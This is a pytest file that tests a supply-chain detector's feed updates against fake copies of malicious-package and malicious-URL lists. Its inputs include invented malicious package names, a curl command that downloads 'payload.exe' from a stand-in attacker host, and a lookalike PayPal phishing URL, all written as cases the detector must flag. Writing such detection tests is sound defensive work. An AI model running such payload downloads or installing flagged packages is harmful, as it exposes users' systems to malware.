"""`adr feeds update` against local imitations of the OSV bulk export and URL lists."""
from __future__ import annotations

import os
import stat
from types import SimpleNamespace as NS

import pytest
from click.testing import CliRunner

from _reputation_server import FakeAPIs, osv_zip
from adr.actions import Action, ActionKind, Context
from adr.paths import get_paths
from adr.supply import feeds
from adr.supply.detector import make_detector


@pytest.fixture
def apis():
    a = FakeAPIs()
    a.osv_zip["npm"] = osv_zip([
        {"id": "MAL-2099-1", "affected": [{"package": {"ecosystem": "npm", "name": "totally-evil-pkg"},
                                            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}]}]},
        {"id": "MAL-2099-2", "affected": [{"package": {"ecosystem": "npm", "name": "hijacked-lib"},
                                            "versions": ["1.2.3"]}]},
        {"id": "GHSA-aaaa-bbbb-cccc", "affected": [{"package": {"ecosystem": "npm", "name": "just-vulnerable"}}]},
    ])
    a.osv_zip["PyPI"] = osv_zip([
        {"id": "MAL-2099-3", "affected": [{"package": {"ecosystem": "PyPI", "name": "Evil_Py"},
                                            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}])
    yield a
    a.close()


def _env(apis, tmp_path):
    return {"ADR_HOME": str(tmp_path), "ADR_FEED_OSV_URL": f"{apis.base}/feeds/osv",
            "ADR_FEED_URLHAUS_URL": f"{apis.base}/feeds/urlhaus.txt",
            "ADR_FEED_PHISHING_URL": f"{apis.base}/feeds/phish.txt"}


def test_update_then_detect_offline(apis, tmp_path):
    env = _env(apis, tmp_path)
    paths = get_paths(env)
    results = {r.name: r for r in feeds.update(paths, env=env)}
    assert results["osv"].ok and results["osv"].entries == 3  # GHSA records are not kept
    assert results["urlhaus"].ok and results["phishing"].ok
    for f in (feeds.FEED_FILES[n] for n in ("osv", "urlhaus", "phishing")):
        assert stat.S_IMODE(os.stat(paths.feeds_dir / f).st_mode) == 0o600
    det = make_detector(paths)

    def run(*argv):
        a = Action(ActionKind.EXEC, command=" ".join(argv), context=Context(cwd="/tmp"))
        return sorted(f.rule_id for f in det.detect(NS(action=a, commands=[NS(argv=argv, program=argv[0], sudo=False)])))
    assert run("npm", "install", "totally-evil-pkg") == ["supply.known-malicious"]
    assert run("npm", "install", "hijacked-lib@1.2.3") == ["supply.known-malicious"]
    assert run("npm", "install", "hijacked-lib@^1.3") == []
    assert run("npm", "install", "just-vulnerable") == []
    assert run("pip", "install", "evil-py") == ["supply.known-malicious"]
    assert run("curl", "-O", "http://evil.example/payload.exe") == ["supply.malicious-url"]
    assert run("curl", "http://evil.example/other") == ["supply.malicious-url"]  # listed host
    assert run("curl", "http://shared.example/other") == []  # one bad URL does not block a host
    a = Action(ActionKind.URL_FETCH, url="https://login-paypa1.example/signin?x=1")
    assert [f.rule_id for f in det.detect(NS(action=a, commands=()))] == ["supply.malicious-url"]


def test_failed_feed_keeps_the_old_one(apis, tmp_path):
    env = _env(apis, tmp_path)
    paths = get_paths(env)
    feeds.update(paths, ("urlhaus",), env=env)
    before = (paths.feeds_dir / "urlhaus.json").read_text()
    env["ADR_FEED_URLHAUS_URL"] = f"{apis.base}/feeds/missing.txt"
    (r,) = feeds.update(paths, ("urlhaus",), env=env)
    assert not r.ok and "404" in r.detail
    assert (paths.feeds_dir / "urlhaus.json").read_text() == before


def test_cli_feeds(apis, tmp_path, monkeypatch):
    for k, v in _env(apis, tmp_path).items():
        monkeypatch.setenv(k, v)
    from adr.cli import main
    r = CliRunner().invoke(main, ["feeds", "update"])
    assert r.exit_code == 0, r.output
    assert "ok  osv: 3 entries" in r.output
    r = CliRunner().invoke(main, ["feeds", "status"])
    assert "urlhaus" in r.output and "3 from OSV" in r.output
